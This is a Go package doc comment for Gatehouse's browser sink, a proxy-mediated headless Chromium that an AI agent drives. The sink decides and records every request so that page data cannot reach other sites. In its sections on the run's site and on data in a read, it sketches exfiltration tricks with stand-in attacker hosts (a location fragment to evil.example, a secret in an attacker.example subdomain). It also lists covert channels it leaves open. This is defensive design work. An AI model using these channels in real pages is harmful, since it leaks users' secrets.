// Package browser is the browser sink: an agent drives a real Chromium over
// NATS (gatehouse.v1.agent.<agent>.effect.browser), and no data leaves the browser for a
// site it should not reach.
//
// # Pool
//
// A Pool owns one Playwright driver (playwright.Run) and one headless
// Chromium (Debian's, at /usr/lib/chromium/chromium), both started lazily by
// the first effect that needs a page and stopped by Close. Each run gets its
// own BrowserContext (cookies, storage, cache and pages of one run are never
// visible to another), created at the run's first action and closed by the
// "close" action, by CloseRun, after Config.IdleTimeout without an action,
// or by Close. Service workers are blocked in every context the pool makes.
// Every goroutine the pool starts (the idle reaper, the proxy listeners and
// their tunnels, sends recorded in the background)
// and every route handler in flight is waited for by Close.
//
// The driver is playwright-core from the npm registry (never Playwright's
// CDN), found in Config.DriverDir, else $PLAYWRIGHT_DRIVER_PATH, else
// DefaultDriverDir; `bash .ci/install-deps` installs it and Chromium. A
// browser that cannot start does not stop Gatehouse: every effect that needs
// a page is decided and recorded, then fails with ErrUnavailable, whose
// message names what is missing and the command that fixes it. The pool
// retries the start at most once every Config.RetryAfter.
//
// # Actions and effects
//
// The agent's actions and the effect each is decided as (Effect.Sink is
// browser for all of them; Host and PageHost are URL hosts, lower case, with
// the port when it is not the scheme's default):
//
//	action      params                      Effect.Action  Target              Method
//	goto        {url}                       navigate       host+path of url    GET
//	click       {selector}                  click          page host+path
//	fill        {selector, value}           fill           page host+path
//	select      {selector, values}          select         page host+path
//	press       {selector, key}             press          page host+path
//	text        {selector}                  text           page host+path
//	content     {}                          content        page host+path
//	screenshot  {inline}                    screenshot     page host+path
//	pages       {}                          pages          page host+path
//	switch      {page}                      switch         host+path of that page
//	close       {}                          close          page host+path
//
// For a navigate, Host is the url's host and PageHost the host of the page
// the run is on (empty before its first page). For the other actions Host
// and PageHost are both the current page's host: the target is the page the
// action touches, so a scope or rule naming "bank.example.com/**" covers
// every action on that site's pages. The selector and values are not in the
// target; the proposal's Size and Digest are those of the action's params
// (so a filled password is recorded only as a digest). Only http and https
// URLs can be opened. The query of a URL is never recorded.
//
// A run's pages are the one it started on (index 0) and every popup its
// pages open, in order; pages lists them ({"pages": [{page, url, closed}],
// "current"}), switch makes one the page later actions (goto included) act
// on, and an action during which popups opened lists them in its reply's
// "opened" (best effort: a popup that opens after the action returns is
// only in pages).
//
// Results: text returns {"text"}, content {"html"}, the others {"url"} of
// the page after the action. A reply larger than MaxReplyBytes is refused
// with ErrTooLarge.
//
// # Screenshots are artifacts
//
// A screenshot is stored in the deployment's artifact store (Config.Artifacts,
// the store the artifact sink writes: NATS Object Store, a folder or Redis)
// under the key ScreenshotKey: "screenshots/<run>/<sha256 hex>.png", in the
// run's tenant's folder (Config.ArtifactName), and the reply names it:
// {"artifact": {key, size, digest, content_type}, "publish_effect"}. The
// agent reads it back with the artifact sink's get {"key"}. Only with
// params {"inline": true} does the PNG come back in the reply instead
// ({"png_base64", "size", "digest"}), and nothing is stored. A pool without
// an artifact store answers a stored screenshot UNAVAILABLE
// (ErrNoArtifactStore) before anything is decided.
//
// Storing it is decided on its own (screenshot.go): the screenshot action is
// decided on the page, before the picture exists; the store publishes
// content, so the pool then proposes Effect{Sink: artifact, Action:
// publish, Target: key} with the PNG's size and digest, decided under the
// artifact rules, mandate and scopes exactly like an agent's publish, and
// recorded before the store happens. A refused or held publish stores
// nothing and fails the screenshot with ErrNotStored, naming the refusal;
// the journal holds both effects, the screenshot's outcome naming the
// publish effect (whose attempt names the browser sink, which carries it
// out). Only the pool can propose that publish (a context value,
// as for sends); an agent's "publish" to the browser sink is a bad request.
//
// # The run's site
//
// Every request is decided against the run's site: the host of the
// agent's last goto (its target while the goto runs, the page's host after
// its redirects once it returns). A page that takes itself elsewhere (a
// link it follows, a script setting location, a popup it opens, a meta
// refresh) does not take the run's site with it: its requests to the new
// host are to another site until the agent goes there with goto. That is
// what closes the channels a plain navigation opens past the proxy's view:
// a fragment (location = "https://evil.example/#<secret>", never sent, read
// by evil's page), window.name, document.referrer under a page's
// "unsafe-url" policy. So in strict mode a page reached by a click can read
// but not send until the agent goes there itself; a popup's sends are
// refused unless a rule names its site (log-in popups need one). An
// action's target is its page's host and path, with the host redacted as
// below when the page is on another site and it carries data, and a path
// longer than max_off_site_path_bytes redacted on any site (a page sets
// its own with history.replaceState), so what a page puts in its own
// address does not reach the journal.
//
// A request to the run's site is to another site too when a document of
// another origin made it (initiator): a frame of another site on the
// run's page, a page of the run's last site still unloading or brought
// back by history, a popup left open. Chromium names the document in
// Origin, else Referer; a request that names neither but says in
// Sec-Fetch-Site that it crossed sites comes from an origin it hides, and
// its PageHost is "null" (OpaqueOrigin). A page can hide its origin, never
// name another. The same holds for a WebSocket to the run's site and for
// a CORS preflight to it.
//
// # Changing site
//
// When the agent's goto takes the run to another site, what the old
// site's pages hold must not come along (leave.go). Before such a goto
// (not in mode off, not the run's first) the pool closes the run's other
// pages (a popup left open holds a reference to the first page and could
// send, or post to the new site's page, at any time), takes the page to
// about:blank and clears its window.name (Chromium keeps it across a
// browser-initiated navigation, even to another site), and settles: what
// the old page sends on its way out (pagehide, unload, visibilitychange,
// fetchLater) is decided against the old site, refused when it goes
// elsewhere, and on record before the goto. In strict mode it also hides
// from the jar, while the new site is the run's, every cookie the new
// site's pages would read that the new site did not set itself through the
// proxy (or read when the run last left it): a page's script can plant a
// cookie that browsers hand to every port of its host, or a parent
// domain's cookie to its subdomains. Hidden cookies come back when the run
// leaves that site. The cost: a goto to another site closes the run's
// popups, and a site's page no longer sees a cookie another port of its
// host set for it in the browser.
//
// # Sends: data leaving the browser
//
// Every request a run's pages make whose method is not GET, HEAD or OPTIONS
// (a form, fetch, XHR, sendBeacon, <a ping>) is a "send" effect, decided and
// recorded by the broker: Effect{Action: "send", Method, Host, PageHost,
// Target: host+path, Path}, with the body's size and digest. PageHost is the
// run's site. The policy's built-in browser-send-off-site refuses a send to
// a host other than PageHost in strict mode unless an effects allow rule
// with a target matches, e.g. {sink: browser, target: "api.example.com/**"}.
// A GET, HEAD or OPTIONS with a body is a send like a POST
// (Values[policy.BrowserBodyBytes]); the agent's goto passes undecided only
// as the GET it is. A page chooses its method, so a method is data like a
// path: one that neither HTTP nor WebDAV defines is named "EXTENSION"
// (ExtensionMethod) in the effect and the journal.
//
// # Writes and grounding
//
// With Pool.NoteWrites (serve passes the provider sink), every request the
// proxy sends on that can change state on its server is first told to the
// WriteNoter (writes.go), so a record read through the provider sink after
// the agent changed it in a site's web UI grounds no payment: a method
// other than GET, HEAD and OPTIONS, an upgrade, a wss:// WebSocket, and
// every tunnel the proxy pipes without reading its requests (a ws://
// WebSocket, TURN, mode off's blind CONNECT). It is told at forward, after
// the request was decided (and so also in report mode, and in mode off).
// A write that cannot be noted is refused (403, or the tunnel closed)
// and logged as the proxy's other refusals are. A GET that changes state
// is the site's bug and is not noted: a read marks nothing.
//
// # Data in a read
//
// A read (GET, HEAD) of another site carries data when the page put some
// in it. Everything in a request the page can choose is looked at, and
// what makes it data is decided here (limits in the rules file's browser
// section, policy/browser.go):
//
//   - the query: any query, by default (max_off_site_query_bytes 0). A
//     query is the page's parameters, and any limit above zero lets a
//     key through in one request and anything through in several;
//   - the path, when longer than max_off_site_path_bytes (128): a CDN's
//     paths (a library's version folder and file, a font's hashed name)
//     stay under it, a page's worth of data (a token, a cookie jar, an
//     address book page) does not. Shorter paths are taken for the
//     resource's name: telling a key from a hashed file name is not
//     possible, so that much stays a channel (see Not covered);
//   - the host name: the labels below its registrable domain (the public
//     suffix list; "localhost" is a suffix of its own) when longer than
//     max_off_site_name_bytes (24): "fonts", "d1a2b3c4d5e6f7" (CloudFront)
//     pass, "<secret>.attacker.example" does not. Such a read is decided
//     before anything is resolved, and the effect and journal name the
//     host "*." + its registrable domain, never the labels;
//   - headers the page set itself: any header Chromium does not set (an
//     X- header, Authorization), an Accept of media types Chromium does
//     not send or a page asking an API for JSON would not, an
//     Accept-Language other than the browser's own (learnt from the
//     agent's goto), a Range other than a media element's, and every
//     header a CORS preflight announced for the request;
//   - the Referer and cookies, which strict mode cuts rather than refuses:
//     a read of another site goes with its Referer cut to the origin (a
//     page can set its own URL with history.replaceState and ask for
//     "unsafe-url"), and with only the cookies that site set itself
//     through the proxy (a page's script can plant a cookie that browsers
//     send to every port of its host, or a parent domain's cookie to a
//     sibling);
//   - the fragment never leaves the browser; the site rule above covers
//     what a page does with it.
//
// A read carrying data is a send with Method GET: its size is the bytes
// carried and its digest is over them (never their text), Values name
// which (policy.BrowserQueryBytes, BrowserPathBytes, BrowserNameBytes,
// BrowserHeaderBytes), a path that carried data is named "/...", and strict
// mode refuses it (browser-query-off-site for a query, else
// browser-data-off-site) unless an allow rule names its target. Plain
// reads (CSS, images, fonts, scripts without data) pass, neither decided
// nor recorded. With off_site_reads: named every read of another site
// needs a rule.
//
// The cost, in strict mode: a page that loads from another host with a
// query needs a rule for that host: Google Fonts' CSS
// (fonts.googleapis.com/css2?family=...), tag managers and analytics
// (gtag/js?id=...), image CDNs that resize by query (imgix, Cloudinary's
// fetch URLs, Unsplash), cache-busting ?v= on another host, embedded maps
// and videos, S3 and GCS signed URLs, OAuth and payment redirects; so does
// an API on a subdomain called with custom headers, and a path longer
// than 128 bytes (Wikimedia thumbnails). Sites on the page's own host are
// never affected.
//
// # Also decided
//
//   - a redirect, at the redirect, for its target: the proxy sees the 3xx
//     before Chromium does, classifies the request Chromium would make to
//     follow it (a 307 or 308 re-sends the body to the new host, an open
//     redirect carries data in its Location), decides it, and answers a
//     refused one 403 in its place; an allowed one's follow-up passes once
//     without a second decision. The follow-up, like the agent's goto, is
//     matched by a canonical key (requestKey: scheme and host in lower case,
//     an IDN host in ASCII, no default port, userinfo or fragment, dot
//     segments resolved, path and query unescaped), so a Location spelled
//     in capitals, with "..", a fragment or raw bytes is still the request
//     Chromium makes for it, and no spelling makes a second request pass
//     as the first's follow-up;
//   - a CORS preflight to another site: in strict mode, unless an allow
//     rule names the target, the proxy answers it itself, allowing what
//     was asked, so the request it precedes comes and is decided (and
//     refused) with its body, and the site hears nothing; otherwise the
//     site answers (Policy.BrowserTargetAllowed; a rule matching on the
//     agent is not known there and does not count). In report mode a
//     preflight carrying data (its address, header names it announces that
//     pages do not commonly set, an extension method) that the site's
//     answer refuses is recorded as strict mode would decide it, since the
//     preflight is then all that left;
//   - HTTP authentication with another site in strict mode: the proxy cuts
//     its WWW-Authenticate, so Chromium never answers a challenge with the
//     credentials a page put in a URL's userinfo (and keeps for every later
//     request there, the agent's goto included);
//   - a read of a target a scope names is decided like a navigation, so a
//     run without the scope is refused (scope-missing) in report mode too;
//   - HTTPS is looked into, not decided by host (mitm.go);
//   - a tunnel whose content the proxy cannot decide request by request,
//     to a host other than the run's site, is a "connect" effect, refused
//     in strict mode (browser-send-off-site) unless an allow rule names the
//     host: a WebSocket (ws://, or wss:// inside an intercepted tunnel),
//     WebRTC's TURN over TCP, and anything but HTTP inside TLS (TURN over
//     TLS). Its outcome, recorded when it closes, counts and digests what
//     the page sent (for a WebSocket, its frames);
//   - the browser's own traffic is a "background" effect of origin runtime,
//     refused in every mode (browser-background) and recorded under a run
//     the pool opens for tenant RuntimeTenant and person RuntimePerson.
//
// # WebRTC and DNS
//
// Chromium is launched with --webrtc-ip-handling-policy=
// disable_non_proxied_udp (its WebRTCIPHandlingPolicy): WebRTC sends no UDP
// to any host, gathers no host candidates, and can only relay over TCP or
// TLS through the proxy, where each tunnel is a connect effect (refused in
// strict mode, recorded in report mode, in every mode the same flag, since
// the browser outlives a mode switch). And with
// --host-resolver-rules="MAP * ~NOTFOUND , EXCLUDE 127.0.0.1" Chromium
// resolves no name itself (DNS prefetch, preconnect, a STUN server's name):
// behind the proxy it hands names to the proxy, which resolves one only for
// a request it lets out, after deciding it, and maps localhost names to
// 127.0.0.1 without asking DNS (RFC 6761). A name that carries data is
// refused before it is resolved. The tests count on STUN/TURN servers of
// their own (UDP, TCP, TLS) from pages, frames of both sites and workers
// (which have no RTCPeerConnection).
//
// None of these travel over NATS. The pool proposes them to the broker
// through the Decider it was bound to (Bind), in process. An agent cannot
// propose one: Describe accepts them only when the context carries the
// request the pool saw, under a context key unexported from this package,
// and the effect is built from that request, never from params. An agent's
// "send" over NATS is refused as a bad request and nothing is decided.
//
// # One eye, one decision per request, on record before the next action
//
// Nothing is routed through Playwright. Each context gets its own proxy
// listener (the per-context Proxy option), so the listener a request
// arrives on names its run, and the proxy (proxy.go) decides every request
// the context makes: pages, frames that removed themselves, dedicated and
// shared workers, beacons on pagehide and while a page closes, redirects,
// WebSocket handshakes. Routing (context.Route) was dropped: Chromium holds
// a routed request until its handler answers, and Playwright loses the
// handler of a request whose frame is gone or that a redirect re-sent, so
// such requests waited until the context closed, or were lost with it,
// undecided; it also cost a driver round trip per request and Chromium's
// HTTP cache. Chromium is launched with the runtime's listener for traffic
// of no context.
//
// Every action starts with a settle barrier and every action that touches
// a page (goto, click, fill, select, press) ends with one (session.settle):
// it returns once every decision under way is recorded, no request the
// proxy is forwarding or that Chromium reported making (Playwright's
// request events) is younger than a second and not yet at the proxy, no
// page opened by the run is still loading, and the proxy has seen nothing
// arrive or finish for Config.SettleQuiet (250 ms) since the action ended;
// at most Config.SettleMax (2 s). So a refused request is on record once,
// before the action that set it off returns, or the next one if the page
// sends later. The agent's close, and the broker's work.close (which now
// lets sinks close an open run before closing it), close the run's pages
// first (their pagehide handlers run), settle, then close the context: a
// beacon on close is decided under the run.
//
// By mode (the bound broker's):
//   - strict: a request that needs deciding is held until its decision:
//     Perform releases it only after the decision and attempt are
//     recorded; a refusal, a decision that cannot be recorded or a closing
//     pool answers it 403, so nothing reaches the other site. A plain read
//     goes out at once (cut as above when to another site).
//   - report: sends go out at once and are proposed in the background;
//     what strict mode would refuse is recorded as such, and the send's
//     outcome carries detail observed=true (it had already left). Reads
//     are not cut. When a scope names a browser target, requests are held
//     as in strict mode, so the scope's refusal holds.
//   - off: nothing is decided or recorded; the proxy passes everything but
//     the browser's own traffic, and HTTPS tunnels are blind (Chromium
//     verifies the sites itself).
//
// A pool that is not bound opens no page (ErrNotBound); a send seen while
// the pool is closing, or by a pool that lost its binding, is refused.
//
// # Failures
//
// A goto on a run without a page starts the browser first; one that cannot
// start answers with a broker.ErrSinkUnavailable error (code UNAVAILABLE),
// naming what is missing and FixCommand, and nothing is decided. A browser
// that went away (crashed, killed) is started again by the next goto; the
// first action of a run whose context died with it fails with ErrRestarted
// (its pages, cookies and storage are gone) and the run's context is
// dropped.
//
// # Not covered
//
//   - the choice of which plain read to make: a page can still signal by
//     which of several data-free URLs it loads (CSS attribute selectors
//     loading /a or /b; which port, or which address of an IPv6 prefix the
//     attacker holds, it asks for), and through a path up to
//     max_off_site_path_bytes or name labels up to max_off_site_name_bytes,
//     one request at a time.
//     The limits stop a secret of realistic size in one request, not a
//     page that spells one out over many; a deployment that must close
//     this sets browser.off_site_reads: named;
//   - timing: a site the page may read can be told things by when it is
//     read;
//   - a remote ICE candidate with a .local name the page adds can make
//     Chromium send one mDNS query on the local network; the resolver
//     rules have put "~NOTFOUND" in the name's place, so it carries no
//     page data (WebTransport fails through the proxy and sends nothing);
//   - requests are decided against the run's site whichever page sent
//     them: with two pages open on two sites, the other page's requests
//     to its own site count as off-site;
//   - a page that keeps sending for longer than SettleMax after an action
//     has what it sends later recorded later (still once, and in strict
//     mode still refused first);
//   - a CORS preflight the proxy answers in strict mode is not the site's
//     answer: a rule that names the target on the agent alone lets the
//     request go without the site's preflight;
//   - between Chromium and the proxy HTTPS is HTTP/1.1 only (the proxy
//     reaches sites with HTTP/1.1 too); a site whose certificate the
//     deployment's roots do not verify answers 502 (the proxy's), where
//     Chromium would have shown its own certificate error; client
//     certificates are not supported;
//   - the browser's own traffic inside a context is recognised by a list of
//     Chromium's service hosts (browserServiceHosts); a host not on it is
//     taken for the run's: its reads pass, its sends are decided;
//   - a screenshot's publish that an approval rule matches is held, and the
//     screenshot fails (ErrNotStored): the pool does not wait for the
//     approval, and the agent cannot resend the pool's publish. Keep
//     approval rules off "screenshots/**", or ask for it inline.
package browser
